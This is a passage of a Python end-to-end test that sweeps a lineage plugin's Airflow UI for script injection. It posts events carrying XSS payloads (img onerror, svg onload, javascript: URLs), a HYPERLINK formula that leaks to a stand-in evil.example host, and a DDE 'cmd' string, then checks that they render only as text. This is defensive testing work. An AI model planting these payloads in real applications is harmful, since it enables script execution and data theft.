"""A security sweep of the UI, in a real headless Chromium inside the real Airflow UI.

Every string Flowlytics shows comes from an emitter or a person and is untrusted. This sweep posts
OpenLineage events (through the plugin's ingest endpoint, with the ingest key) in which every such string
carries a script-injection payload: the namespace, job and dataset names, column names (schema and
columnLineage facets) and their types and descriptions, facet values (documentation, ownership, tags,
sourceCodeLocation, sql), error messages and stack traces (errorMessage run facet), data-quality
assertions, the environment tag, and the task log URL (a ``javascript:`` URL); people's metadata (owners,
tags, annotations, through PATCH /api/v1/nodes/{id}/metadata and /api/v1/edges/metadata) likewise. Then
it opens every view (VIEWS below), clicks through its links and expands its details, and checks on each
page that:

- nothing ran: ``window.__pwned`` is never set (a setter installed before any page script records every
  attempt, across navigations), no dialog opened, no page error;
- nothing became markup: no ``<img src=x>``, no injected ``<svg>``, no element with an inline ``on*``
  handler anywhere in the document;
- no link, frame or form points at a ``javascript:``, ``data:`` or ``vbscript:`` URL (checked on the
  resolved URL, so case and whitespace tricks count);
- the payloads are on the page as text, where each view shows them (so the data reached the page).

It also downloads the batch's CSV export and checks that a process named like a formula is neutralised.

Uses the session's Airflow (tests/e2e/conftest.py) and needs no demo DAG run: one Airflow DAG run is
created, paused and never scheduled, in the `flowlytics_demo_payments_report` DAG (whose
`send_payments_report` task never runs in the demo: its sensor times out), so that the DAG, DAG-run and
task tabs have a run and a task to show. Screenshots go to test-artifacts/ (gitignored).
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.e2e.harness import (
    ARTIFACTS,
    PAYMENTS_REPORT,
    Airflow,
    MailCapture,
    headless_chromium,
    log_in,
    require_chromium,
    wait_until,
)
from tests.lineage_backend.alerting.html_reader import assert_postmortem_outline, read_html
from tests.lineage_backend.alerting.receivers import HttpReceiver, http_receiver

pytestmark = [pytest.mark.airflow, pytest.mark.browser, pytest.mark.slow]

TIMEOUT_MS = 30_000
API = "/flowlytics/api/v1"
PRODUCER = "https://github.com/flowlytics/tests/e2e/security-sweep"

# --------------------------------------------------------------------------------------------- payloads

IMG = "<img src=x onerror=window.__pwned=1>"
SVG = '"><svg onload=window.__pwned=1>'
JS = "javascript:window.__pwned=1"


def hostile(label: str) -> str:
    """A unique, searchable label followed by both markup payloads."""
    return f"{label} {IMG}{SVG}"


NS = hostile("swpns")  # the namespace of every job and dataset below, but the Airflow DAG's own jobs
# The Airflow DAG's jobs come in this Airflow's own OpenLineage namespace (scripts/airflow_env.sh), as the
# provider sends them: the DAG, DAG-run and task tabs show this Airflow's DAG (services/visibility.py).
AIRFLOW_NS = "flowlytics_demo"
ROOT = hostile("swproot")  # a non-Airflow batch (e.g. a dbt invocation)
LOAD = hostile("swpload")  # its failing process
AUDIT = hostile("swpaudit")  # a consumer of the output
FORMULA = '=HYPERLINK("http://evil.example/?leak","swpformula")'  # a process named like a spreadsheet formula
DATASET_IN = hostile("swpin")
DATASET_OUT = hostile("swpout")
DATASET_JS = JS  # a dataset named like a javascript: URL: shown as text, its link goes to the Lineage page
REPORT = hostile("swpreport")
COLUMN = hostile("swpcol")
SOURCE_COLUMN = hostile("swpsrc")
COLUMN_TYPE = f"T{SVG}"
COLUMN_DOC = hostile("swpcoldoc")
DOC = f"{hostile('swpdoc')} see {JS}"
FACET_OWNER = hostile("swpfacetowner")
TAG_KEY = hostile("swptag")
ENV = hostile("swpenv")
ERROR = hostile("swperror")
STACK = f"Traceback (most recent call last):\n  {hostile('swpstack')}"
SQL = f"SELECT '{IMG}' AS swpsql"
ASSERTION = hostile("swpassert")
DQ_COLUMN = hostile("swpdqcol")
OWNER = hostile("swpowner")
TAG = hostile("swpusertag")
NOTE = f"{hostile('swpnote')} {JS}"
EDGE_NOTE = hostile("swpedge")
TASK = "send_payments_report"  # a task of PAYMENTS_REPORT that the demo never runs
TASK_JOB = f"{PAYMENTS_REPORT}.{TASK}"
TASK_ERROR = hostile("swptaskerror")
# Alerts (issue 12): what admins and readers type is hostile too: channel and rule names, the scope (NS), the
# owner map's key (OWNER), silences' reasons and subjects, an incident's note.
CHANNEL = hostile("swpchannel")
RULE = hostile("swprule")
MUTED_RULE = hostile("swpmutedrule")
REASON = f"{hostile('swpreason')} {JS} <!channel>"
INCIDENT_NOTE = f"{hostile('swpincnote')} [x]({JS}) <!channel> =cmd|' /C calc'!A0 *b* `c`"


def job_id(name: str) -> str:
    return f"job:{NS}:{name}"


def dataset_id(name: str) -> str:
    return f"dataset:{NS}:{name}"


# ----------------------------------------------------------------------------------------------- events


def _time(moment: datetime) -> str:
    return moment.isoformat().replace("+00:00", "Z")


def _facet(**fields: Any) -> dict[str, Any]:
    return {"_producer": PRODUCER, "_schemaURL": "https://openlineage.io/spec/facets/1-0-0/Facet.json", **fields}


def _event(
    event_type: str,
    run_id: str,
    job: str,
    when: datetime,
    *,
    parent: tuple[str, str] | None = None,
    run_facets: dict[str, Any] | None = None,
    job_facets: dict[str, Any] | None = None,
    inputs: list[dict[str, Any]] | None = None,
    outputs: list[dict[str, Any]] | None = None,
    namespace: str = NS,
) -> dict[str, Any]:
    facets = dict(run_facets or {})
    if parent:
        ref = {"run": {"runId": parent[0]}, "job": {"namespace": namespace, "name": parent[1]}}
        facets["parent"] = _facet(**ref, root=ref)
    return {
        "eventType": event_type,
        "eventTime": _time(when),
        "producer": PRODUCER,
        "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunEvent",
        "run": {"runId": run_id, "facets": facets},
        "job": {"namespace": namespace, "name": job, "facets": job_facets or {}},
        "inputs": inputs or [],
        "outputs": outputs or [],
    }


def _error(message: str) -> dict[str, Any]:
    return {"errorMessage": _facet(message=message, programmingLanguage="python", stackTrace=STACK)}


def _job_facets() -> dict[str, Any]:
    """Every descriptive job facet, each value hostile."""
    return {
        "documentation": _facet(description=DOC),
        "ownership": _facet(owners=[{"name": FACET_OWNER, "type": JS}]),
        "sourceCodeLocation": _facet(type="git", url=JS, repoUrl=JS, path=hostile("swppath")),
        "sql": _facet(query=SQL),
        "tags": _facet(tags=[{"key": TAG_KEY, "value": JS, "source": "MANUAL"}, {"key": "env", "value": ENV}]),
    }


def _datasets() -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
    source = {
        "namespace": NS,
        "name": DATASET_IN,
        "facets": {"schema": _facet(fields=[{"name": SOURCE_COLUMN, "type": COLUMN_TYPE}])},
        "inputFacets": {
            "inputStatistics": _facet(rowCount=10),
            "dataQualityAssertions": _facet(
                assertions=[{"assertion": ASSERTION, "success": False, "column": DQ_COLUMN}]
            ),
        },
    }
    column_lineage = {
        COLUMN: {
            "inputFields": [
                {
                    "namespace": NS,
                    "name": DATASET_IN,
                    "field": SOURCE_COLUMN,
                    "transformations": [{"type": "DIRECT", "subtype": "IDENTITY", "description": hostile("swpxf")}],
                }
            ]
        }
    }
    target = {
        "namespace": NS,
        "name": DATASET_OUT,
        "facets": {
            "schema": _facet(
                fields=[{"name": COLUMN, "type": COLUMN_TYPE, "description": COLUMN_DOC}, {"name": "id", "type": "INT"}]
            ),
            "columnLineage": _facet(fields=column_lineage),
            "documentation": _facet(description=DOC),
            "ownership": _facet(owners=[{"name": FACET_OWNER, "type": JS}]),
        },
        "outputFacets": {"outputStatistics": _facet(rowCount=7)},
    }
    url_named = {"namespace": NS, "name": DATASET_JS, "outputFacets": {"outputStatistics": _facet(rowCount=3)}}
    return source, target, url_named


def airflow_batch_events(dag_run_id: str, start: datetime) -> tuple[str, list[dict[str, Any]]]:
    """A DAG run of PAYMENTS_REPORT whose (never really run) task read and wrote hostile datasets and failed."""
    root, task = str(uuid.uuid4()), str(uuid.uuid4())
    _, target, _ = _datasets()
    report = {"namespace": NS, "name": REPORT, "outputFacets": {"outputStatistics": _facet(rowCount=5)}}
    dag_facets = {
        "jobType": _facet(jobType="DAG", integration="AIRFLOW", processingType="BATCH"),
        "airflow": _facet(tasks={TASK: {"operator": "PythonOperator"}}, taskTree={}, taskGroups={}),
    }
    dag_run = {"airflowDagRun": _facet(dag={"dag_id": PAYMENTS_REPORT}, dagRun={"run_id": dag_run_id})}
    task_facets = {
        "airflow": _facet(
            dag={"dag_id": PAYMENTS_REPORT},
            task={"task_id": TASK},
            taskInstance={"try_number": 1, "log_url": JS},
        )
    }
    parent = (root, PAYMENTS_REPORT)
    task_job = {"jobType": _facet(jobType="TASK", integration="AIRFLOW", processingType="BATCH"), **_job_facets()}
    events = [
        _event("START", root, PAYMENTS_REPORT, start, run_facets=dag_run, job_facets=dag_facets, namespace=AIRFLOW_NS),
        _event(
            "START",
            task,
            TASK_JOB,
            start,
            parent=parent,
            run_facets=task_facets,
            job_facets=task_job,
            namespace=AIRFLOW_NS,
        ),
        _event(
            "FAIL",
            task,
            TASK_JOB,
            start + timedelta(seconds=20),
            parent=parent,
            run_facets={**task_facets, **_error(TASK_ERROR)},
            job_facets=task_job,
            inputs=[target],
            outputs=[report],
            namespace=AIRFLOW_NS,
        ),
        _event(
            "FAIL",
            root,
            PAYMENTS_REPORT,
            start + timedelta(seconds=25),
            run_facets=dag_run,
            job_facets=dag_facets,
            namespace=AIRFLOW_NS,
        ),
    ]
    return root, events


def plain_batch_events(start: datetime) -> tuple[str, list[dict[str, Any]]]:
    """A non-Airflow batch: ROOT launched LOAD (failed, read DATASET_IN and wrote DATASET_OUT and
    DATASET_JS), AUDIT (read DATASET_OUT) and FORMULA."""
    root, load, audit, formula = (str(uuid.uuid4()) for _ in range(4))
    source, target, url_named = _datasets()
    parent = (root, ROOT)
    log = {"airflow": _facet(taskInstance={"try_number": 1, "log_url": JS})}
    env = {"tags": _facet(tags=[{"key": "env", "value": ENV}])}
    at = start
    return root, [
        _event("START", root, ROOT, at, run_facets=env, job_facets=_job_facets()),
        _event("START", load, LOAD, at, parent=parent, run_facets=log, job_facets=_job_facets()),
        _event(
            "FAIL",
            load,
            LOAD,
            at + timedelta(seconds=30),
            parent=parent,
            run_facets={**log, **_error(ERROR)},
            job_facets=_job_facets(),
            inputs=[source],
            outputs=[target, url_named],
        ),
        _event("START", audit, AUDIT, at + timedelta(seconds=31), parent=parent),
        _event(
            "COMPLETE",
            audit,
            AUDIT,
            at + timedelta(seconds=40),
            parent=parent,
            inputs=[{"namespace": NS, "name": DATASET_OUT}],
        ),
        _event("START", formula, FORMULA, at + timedelta(seconds=41), parent=parent),
        _event("COMPLETE", formula, FORMULA, at + timedelta(seconds=42), parent=parent),
        _event("FAIL", root, ROOT, at + timedelta(seconds=45), run_facets=env),
    ]


def post_events(airflow: Airflow, events: list[dict[str, Any]]) -> None:
    with airflow.client(airflow.ingest_key) as client:
        response = client.post(f"{API}/lineage/batch", json=events)
        assert response.status_code == 200, response.text
        assert response.json()["summary"]["failed"] == 0, response.text


def newest_batch_start(airflow: Airflow) -> datetime | None:
    """When the newest stored batch started: the sweep's own batch must start after it to be in the widget,
    whichever e2e tests ran before (test_lineage_ui's events, for one, are only seconds old)."""
    with airflow.client(airflow.read_key) as client:
        response = client.get(f"{API}/batches", params={"limit": 1})
        assert response.status_code == 200, response.text
        items = response.json()["items"]
    started = items[0].get("startedAt") if items else None
    return datetime.fromisoformat(started.replace("Z", "+00:00")) if started else None


@dataclass
class Alerting:
    """The sweep's channels (named CHANNEL + their type), rules and the local receivers they deliver to."""

    receiver: HttpReceiver  # webhook (/hook) and Slack (/services/...) requests
    mail: MailCapture | None  # the session's SMTP capture (None without aiosmtpd)
    mail_to: str | None  # the e-mail channel's address there
    channels: dict[str, int]  # type -> id
    rule: int
    muted_rule: int


def set_up_alerts(airflow: Airflow, receiver: HttpReceiver, mail: MailCapture | None) -> Alerting:
    """Channels of each kind with hostile names, a rule on the hostile namespace that tells them and the
    owners (through an owner map whose key is hostile), a second rule muted with a hostile reason, and a
    snooze of a hostile subject: the Alerts page shows them all, and the failures open incidents whose
    messages reach the receivers."""
    mail_to = f"sweep-{uuid.uuid4().hex[:8]}@example.com" if mail is not None else None
    bodies: dict[str, dict[str, Any]] = {
        "webhook": {"url": f"{receiver.url}/hook"},
        "slack": {"url": f"{receiver.url}/services/T0/B0/sweep"},
        **({"email": {"addresses": [mail_to]}} if mail_to else {}),
    }
    with airflow.client(airflow.admin_key) as admin:

        def created(path: str, body: dict[str, Any]) -> int:
            response = admin.post(f"{API}{path}", json=body)
            assert response.status_code == 201, response.text
            return int(response.json()["id"])

        channels = {
            kind: created("/alerts/channels", {"name": f"{CHANNEL} {kind}", "type": kind, **body})
            for kind, body in bodies.items()
        }
        rule = created(
            "/alerts/rules",
            {
                "name": RULE,
                "condition": {"type": "run_failed"},
                "scope": {"namespaces": [NS]},
                "channelIds": sorted(channels.values()),
                "routeToOwners": True,
            },
        )
        muted = created(
            "/alerts/rules",
            {
                "name": MUTED_RULE,
                "condition": {"type": "duration_above", "threshold": 86400},
                "scope": {"owners": [OWNER]},
            },
        )
        routes = admin.get(f"{API}/alerts/owner-routes").json()["routes"]  # other tests' routes stay
        response = admin.put(f"{API}/alerts/owner-routes", json={"routes": {**routes, OWNER: channels["webhook"]}})
        assert response.status_code == 200, response.text
        until = (datetime.now(timezone.utc) + timedelta(hours=2)).isoformat()
        created("/alerts/silences", {"ruleId": muted, "reason": REASON})
        created("/alerts/silences", {"subject": job_id(AUDIT), "until": until, "reason": REASON})
    return Alerting(receiver=receiver, mail=mail, mail_to=mail_to, channels=channels, rule=rule, muted_rule=muted)


def edit_metadata(airflow: Airflow) -> None:
    """People's metadata, hostile too: owners, tags and an annotation on the output, a note on an edge."""
    with airflow.client(airflow.admin_key) as admin:
        response = admin.patch(
            f"{API}/nodes/{quote(dataset_id(DATASET_OUT), safe='')}/metadata",
            json={"owners": [OWNER, JS], "tags": [TAG, JS], "criticality": "high", "annotations": [{"text": NOTE}]},
        )
        assert response.status_code == 200, response.text
        response = admin.patch(
            f"{API}/edges/metadata",
            params={"source": job_id(LOAD), "target": dataset_id(DATASET_OUT)},
            json={"annotations": [{"text": EDGE_NOTE}]},
        )
        assert response.status_code == 200, response.text


def create_paused_dag_run(airflow: Airflow) -> str:
    """An Airflow DAG run of PAYMENTS_REPORT that never starts (the DAG is paused): the DAG-run tab's page."""
    dag_run_id = f"flowlytics_security_sweep_{uuid.uuid4().hex[:8]}"
    with airflow.api() as client:
        wait_until(
            f"DAG {PAYMENTS_REPORT} to be parsed",
            lambda: client.get(f"/api/v2/dags/{PAYMENTS_REPORT}").status_code == 200,
            120.0,
            interval=2.0,
        )
        client.patch(f"/api/v2/dags/{PAYMENTS_REPORT}", json={"is_paused": True}).raise_for_status()
        response = client.post(
            f"/api/v2/dags/{PAYMENTS_REPORT}/dagRuns", json={"dag_run_id": dag_run_id, "logical_date": None}
        )
        assert response.status_code in (200, 201), response.text
    return dag_run_id


# ---------------------------------------------------------------------------------------------- browser

# Installed before any page script on every page: records every write to window.__pwned (and keeps the
# value, so that `window.__pwned` is no longer undefined), through a binding that survives navigations.
PWNED_TRAP = """
(() => {
  let value;
  Object.defineProperty(window, "__pwned", {
    configurable: false,
    get() { return value; },
    set(v) {
      value = v;
      try { window.__flowlyticsSweepPwned(String(location.href)); } catch (e) {}
    },
  });
})();
"""

# What must never be in a document that showed untrusted text.
DOM_PROBLEMS = """
() => {
  const problems = [];
  const describe = (el) => el.outerHTML.slice(0, 160);
  if (typeof window.__pwned !== "undefined") problems.push("window.__pwned is " + String(window.__pwned));
  for (const el of document.querySelectorAll("img[src='x'], img[onerror], svg[onload]")) {
    problems.push("injected element: " + describe(el));
  }
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) problems.push("inline handler " + attr.name + ": " + describe(el));
    }
  }
  const unsafe = /^(javascript|data|vbscript):$/i;
  for (const el of document.querySelectorAll("a[href], area[href]")) {
    if (unsafe.test(el.protocol)) problems.push("unsafe link: " + describe(el));
  }
  const urlAttrs = [["iframe", "src"], ["frame", "src"], ["embed", "src"], ["object", "data"],
                    ["form", "action"], ["button", "formaction"], ["input", "formaction"], ["base", "href"]];
  for (const [tag, attr] of urlAttrs) {
    for (const el of document.querySelectorAll(tag + "[" + attr + "]")) {
      let protocol = "";
      try { protocol = new URL(el.getAttribute(attr), document.baseURI).protocol; } catch (e) {}
      if (unsafe.test(protocol)) problems.push("unsafe " + tag + " " + attr + ": " + describe(el));
    }
  }
  return problems;
}
"""


@dataclass
class Sweep:
    page: Any
    airflow: Airflow
    plain_batch: str  # batch id of the non-Airflow batch
    airflow_batch: str  # batch id of the PAYMENTS_REPORT DAG run
    dag_run_id: str
    alerting: Alerting | None = None
    pwned: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    checked: list[str] = field(default_factory=list)  # URLs the checks ran on

    def goto(self, path: str) -> None:
        self.page.goto(f"{self.airflow.base_url}{path}")

    def check_page(self) -> None:
        """The page as it is now: nothing ran, nothing became markup, no unsafe link."""
        problems = self.page.evaluate(DOM_PROBLEMS)
        assert not self.pwned, f"window.__pwned was set on {self.pwned}"
        assert not self.dialogs, f"a dialog opened (script injection?): {self.dialogs}"
        assert not self.errors, f"page errors: {self.errors}"
        assert not problems, f"{self.page.url}: {problems}"
        self.checked.append(self.page.url)


def shows(scope: Any, *texts: str) -> None:
    """Each text is visible, as text, somewhere in `scope` (the payload reached the page)."""
    from playwright.sync_api import expect

    for text in texts:
        expect(scope.get_by_text(text, exact=False).first).to_be_visible()


def expand_details(scope: Any) -> None:
    """Open every <details> in scope (facets, stack traces): their text is rendered too."""
    closed = scope.locator("details:not([open]) > summary")
    for _ in range(200):  # a bound: each click opens one
        if closed.count() == 0:
            return
        closed.first.scroll_into_view_if_needed()
        closed.first.click()
    raise AssertionError("more than 200 <details> to open")


def _node(page: Any, node_id: str) -> Any:
    return page.locator(f"[data-testid=flowlytics-graph-node][data-node-id={json.dumps(node_id)}]")


# ------------------------------------------------------------------------------------------------ views
#
# One entry per view: (name, function that opens the view, interacts with it and asserts which payloads it
# shows as text). After each, the sweep checks the page (Sweep.check_page); a view may call check_page
# itself between navigations. Alerts is here; Workflow drafts has its own hostile-name test
# (tests/e2e/test_workflow_drafts_ui.py). Views still to come (Analytics) are added with one line each,
# e.g. `View("analytics", lambda s: open_plugin_page(s, "/plugin/flowlytics_analytics", NS, LOAD))`, once
# their events or records are posted with the same payloads in `sweep` below.


def open_plugin_page(sweep: Sweep, path: str, *texts: str) -> None:
    """A generic view: open `path` and expect `texts` on it."""
    sweep.goto(path)
    shows(sweep.page, *texts)


def view_runs(sweep: Sweep) -> None:
    from playwright.sync_api import expect

    page = sweep.page
    sweep.goto("/plugin/flowlytics")
    page.get_by_test_id("flowlytics-state-filter").select_option("FAILED")
    row = page.locator("[data-testid=flowlytics-run-row]").filter(has_text="swpload")
    expect(row).to_have_count(1)
    shows(row, LOAD, NS, ERROR)
    shows(page, ROOT, TASK_JOB, TASK_ERROR)


def view_lineage_search_and_panel(sweep: Sweep) -> None:
    """Search, pick the hostile output, its side panel with every section opened, impact both ways,
    the Mermaid export dialog."""
    from playwright.sync_api import expect

    page = sweep.page
    sweep.goto("/plugin/flowlytics_lineage")
    page.get_by_test_id("flowlytics-search").fill("swpout")
    result = page.locator(f"[data-testid=flowlytics-search-result][data-node-id={json.dumps(dataset_id(DATASET_OUT))}]")
    shows(result, DATASET_OUT)
    result.click()
    expect(_node(page, dataset_id(DATASET_OUT)).get_by_test_id("flowlytics-node-name")).to_have_text(DATASET_OUT)
    # The batch's runs are grouped under ROOT (as tasks under their DAG): a group node, then each job.
    expect(_node(page, job_id(ROOT)).get_by_test_id("flowlytics-node-name")).to_have_text(ROOT)
    page.get_by_test_id("flowlytics-collapse").uncheck()
    for name in (LOAD, AUDIT):
        expect(_node(page, job_id(name))).to_be_visible()
    panel = page.get_by_test_id("flowlytics-side-panel")
    expect(panel).to_have_attribute("data-node-id", dataset_id(DATASET_OUT))
    expect(panel.get_by_test_id("flowlytics-panel-name")).to_have_text(DATASET_OUT)
    shows(panel, NS, DOC, OWNER, JS, TAG, NOTE)
    shows(panel.get_by_test_id("flowlytics-panel-schema"), COLUMN, COLUMN_TYPE, COLUMN_DOC)
    shows(panel.get_by_test_id("flowlytics-impact-summary"), AUDIT)
    sweep.check_page()
    expand_details(panel)
    facets = panel.get_by_test_id("flowlytics-panel-facets")
    shows(facets, "documentation", "ownership", "columnLineage", IMG)  # JSON keeps IMG verbatim (no quotes)
    sweep.check_page()
    panel.get_by_test_id("flowlytics-impact-upstream").click()
    shows(panel.get_by_test_id("flowlytics-impact-summary"), LOAD)
    sweep.check_page()
    # The panel of the failed job: its documentation, facet owners and tags.
    _node(page, job_id(LOAD)).click()
    expect(panel).to_have_attribute("data-node-id", job_id(LOAD))
    shows(panel, LOAD, DOC, FACET_OWNER)
    expand_details(panel)
    shows(panel.get_by_test_id("flowlytics-panel-facets"), "sourceCodeLocation", "sql", "javascript:window.__pwned=1")
    sweep.check_page()
    # The Mermaid export shows its text in a dialog: still text.
    page.get_by_test_id("flowlytics-export-mermaid").click()
    mermaid = page.get_by_test_id("flowlytics-mermaid-text").input_value()
    assert "swpout" in mermaid and "<img" not in mermaid and "<svg" not in mermaid
    sweep.check_page()
    page.keyboard.press("Escape")


def view_lineage_columns(sweep: Sweep) -> None:
    """Column level on the deep link of the hostile output: field names inside nodes, field-to-field edges."""
    from playwright.sync_api import expect

    page = sweep.page
    sweep.goto(f"/plugin/flowlytics_lineage?node={quote(dataset_id(DATASET_OUT), safe='')}")
    expect(page.get_by_test_id("flowlytics-side-panel")).to_have_attribute("data-node-id", dataset_id(DATASET_OUT))
    page.get_by_test_id("flowlytics-collapse").uncheck()
    page.get_by_test_id("flowlytics-column-level").check()
    fields = _node(page, dataset_id(DATASET_OUT)).get_by_test_id("flowlytics-node-field")
    expect(fields.filter(has_text="swpcol")).to_have_count(1)
    shows(_node(page, dataset_id(DATASET_OUT)), COLUMN)
    shows(_node(page, dataset_id(DATASET_IN)), SOURCE_COLUMN)
    expect(page.locator(".react-flow__edge-text").first).to_have_text("DIRECT/IDENTITY")
    sweep.check_page()
    # The SVG export of this view: the names are text in plain shapes, nothing active.
    with page.expect_download() as download:
        page.get_by_test_id("flowlytics-export-svg").click()
    svg = Path(download.value.path()).read_text(encoding="utf-8")
    (ARTIFACTS / "e2e-security-sweep-export.svg").write_text(svg, encoding="utf-8")
    assert_inert_svg(svg, "swpcol", "swpout")


# The elements the SVG export draws with (lineage/svg.ts): no script, image, link or foreignObject.
SVG_ELEMENTS = {"svg", "defs", "marker", "path", "rect", "text", "g", "title", "line"}


def assert_inert_svg(svg: str, *texts: str) -> None:
    from xml.etree import ElementTree

    root = ElementTree.fromstring(svg)  # noqa: S314 - the export this test just downloaded; expat expands no external entities
    shown = []
    for element in root.iter():
        tag = element.tag.rsplit("}", 1)[-1]
        assert tag in SVG_ELEMENTS, f"unexpected <{tag}> in the SVG export"
        for name in element.attrib:
            local = name.rsplit("}", 1)[-1].lower()
            assert not local.startswith("on") and local != "href", f"<{tag} {name}=...> in the SVG export"
        shown.append(element.text or "")
    for text in texts:
        assert any(text in t for t in shown), f"{text!r} is not text in the SVG export"


def _open_batch(sweep: Sweep, batch_id: str) -> Any:
    sweep.goto(f"/plugin/flowlytics_batch_health?batch={quote(batch_id, safe='')}")
    view = sweep.page.locator(f"[data-testid=flowlytics-batch-view][data-batch-id='{batch_id}']")
    view.locator("[data-testid=flowlytics-process-row]").first.wait_for()
    return view


def view_batch_health(sweep: Sweep) -> None:
    """The batch list, one batch, its process table and a process's drill-down (every section opened)."""
    from playwright.sync_api import expect

    page = sweep.page
    view = _open_batch(sweep, sweep.plain_batch)
    row = page.locator(f"[data-testid=flowlytics-batch-row][data-batch-id='{sweep.plain_batch}']")
    shows(row, ROOT, NS, ENV)
    shows(view.get_by_test_id("flowlytics-batch-title"), ROOT)
    shows(view, ENV)
    process = view.locator("[data-testid=flowlytics-process-row][data-status=FAILED]")
    expect(process).to_have_count(1)
    shows(process, LOAD)
    expect(process.get_by_test_id("flowlytics-process-error-preview")).to_contain_text("swperror")
    shows(view.get_by_test_id("flowlytics-process-table"), AUDIT, FORMULA)
    sweep.check_page()
    process.get_by_test_id("flowlytics-process-toggle").click()
    details = view.get_by_test_id("flowlytics-process-details")
    expect(details.get_by_test_id("flowlytics-process-error-message")).to_have_text(ERROR)
    # The run's log URL is javascript:, so there is no log link at all.
    expect(details.get_by_test_id("flowlytics-process-io-row")).to_have_count(3)
    expect(details.get_by_test_id("flowlytics-log-link")).to_have_count(0)
    expand_details(details)
    shows(details.get_by_test_id("flowlytics-process-stack"), hostile("swpstack"))
    shows(details.get_by_test_id("flowlytics-process-sql"), SQL)
    shows(details.get_by_test_id("flowlytics-process-io"), DATASET_IN, DATASET_OUT, DATASET_JS, NS)
    shows(details.get_by_test_id("flowlytics-process-columns"), COLUMN, SOURCE_COLUMN)
    shows(details.get_by_test_id("flowlytics-process-facets"), "errorMessage", IMG)
    sweep.check_page()
    # Click through: the dataset named like a javascript: URL links to the Lineage page, in this Airflow.
    link = details.get_by_test_id("flowlytics-process-io").get_by_role("link", name=DATASET_JS, exact=True)
    assert (link.get_attribute("href") or "").startswith(sweep.airflow.base_url + "/plugin/flowlytics_lineage?")
    link.click()
    page.wait_for_url("**/plugin/flowlytics_lineage?**")
    expect(page.get_by_test_id("flowlytics-side-panel")).to_have_attribute("data-node-id", dataset_id(DATASET_JS))
    expect(page.get_by_test_id("flowlytics-panel-name")).to_have_text(DATASET_JS)


def view_batch_dq_and_trends(sweep: Sweep) -> None:
    page = sweep.page
    view = _open_batch(sweep, sweep.plain_batch)
    view.get_by_test_id("flowlytics-tab-dq").click()
    dq = view.get_by_test_id("flowlytics-dq")
    shows(dq.locator("[data-testid=flowlytics-dq-row][data-success=false]"), ASSERTION, DQ_COLUMN, LOAD)
    sweep.check_page()
    view.get_by_test_id("flowlytics-tab-trends").click()
    trends = view.get_by_test_id("flowlytics-trends")
    from playwright.sync_api import expect

    expect(trends.locator("[data-testid=flowlytics-trend-chart]")).to_have_count(4)
    shows(page, ROOT)


def view_batch_csv(sweep: Sweep) -> None:
    """The CSV export of the batch: formula-like names neutralised, the hostile ones kept as text."""
    page = sweep.page
    view = _open_batch(sweep, sweep.plain_batch)
    with page.expect_download() as download:
        view.get_by_test_id("flowlytics-csv").click()
    text = Path(download.value.path()).read_text(encoding="utf-8")
    (ARTIFACTS / "e2e-security-sweep-processes.csv").write_text(text, encoding="utf-8")
    rows = {row["Process"]: row for row in csv.DictReader(io.StringIO(text))}
    assert "'" + FORMULA in rows, sorted(rows)
    assert not any(name.startswith(("=", "+", "-", "@")) for name in rows)
    failed = next(row for row in rows.values() if row["Status"] == "FAILED")
    assert failed["Error"] == ERROR and failed["Process"].endswith(LOAD.split(" ", 1)[1])


def view_dag_tab(sweep: Sweep) -> None:
    from playwright.sync_api import expect

    page = sweep.page
    sweep.goto(f"/dags/{PAYMENTS_REPORT}/plugin/flowlytics_dag_lineage")
    view = page.get_by_test_id("flowlytics-dag-lineage")
    expect(view.get_by_test_id("flowlytics-graph")).to_be_visible()
    task = _node(page, f"job:{AIRFLOW_NS}:{TASK_JOB}")  # this Airflow's DAG: its own namespace
    expect(task).to_have_attribute("data-state", "FAILED")
    for name in (DATASET_OUT, REPORT):
        expect(_node(page, dataset_id(name)).get_by_test_id("flowlytics-node-name")).to_have_text(name)
    sweep.check_page()
    task.click()
    panel = view.get_by_test_id("flowlytics-side-panel")
    shows(panel, DOC, FACET_OWNER)
    expand_details(panel)
    sweep.check_page()
    _node(page, dataset_id(DATASET_OUT)).dispatch_event("click")  # the open side panel may cover it
    shows(panel, NS, OWNER, TAG, NOTE)


def view_dag_run_tab(sweep: Sweep) -> None:
    from playwright.sync_api import expect

    page = sweep.page
    sweep.goto(f"/dags/{PAYMENTS_REPORT}/runs/{quote(sweep.dag_run_id, safe='')}/plugin/flowlytics_batch_run")
    tab = page.get_by_test_id("flowlytics-batch-run")
    view = tab.locator(f"[data-testid=flowlytics-batch-view][data-batch-id='{sweep.airflow_batch}']")
    process = view.locator(f"[data-testid=flowlytics-process-row][data-name={json.dumps(TASK)}]")
    expect(process).to_have_attribute("data-status", "FAILED")
    expect(process.get_by_test_id("flowlytics-process-error-preview")).to_contain_text("swptaskerror")
    sweep.check_page()
    process.get_by_test_id("flowlytics-process-toggle").click()
    details = view.get_by_test_id("flowlytics-process-details")
    expect(details.get_by_test_id("flowlytics-process-error-message")).to_have_text(TASK_ERROR)
    expect(details.get_by_test_id("flowlytics-log-link")).to_have_count(0)  # its log_url is javascript:
    expand_details(details)
    shows(details.get_by_test_id("flowlytics-process-io"), DATASET_OUT, REPORT, NS)
    shows(details.get_by_test_id("flowlytics-process-sql"), SQL)


def view_task_tab(sweep: Sweep) -> None:
    from playwright.sync_api import expect

    page = sweep.page
    sweep.goto(f"/dags/{PAYMENTS_REPORT}/tasks/{TASK}/plugin/flowlytics_task_io")
    view = page.get_by_test_id("flowlytics-task-io")
    rows = view.get_by_test_id("flowlytics-io-row")
    expect(rows).to_have_count(2)
    shows(view, DATASET_OUT, REPORT, NS)
    sweep.check_page()
    out = view.locator(f"[data-testid=flowlytics-io-row][data-node-id={json.dumps(dataset_id(REPORT))}]")
    out.get_by_test_id("flowlytics-io-link").click()
    page.wait_for_url("**/plugin/flowlytics_lineage?**")
    expect(page.get_by_test_id("flowlytics-panel-name")).to_have_text(REPORT)


def view_dashboard_widget(sweep: Sweep) -> None:
    from playwright.sync_api import expect

    page = sweep.page
    sweep.goto("/")
    widget = page.get_by_test_id("flowlytics-batch-widget")
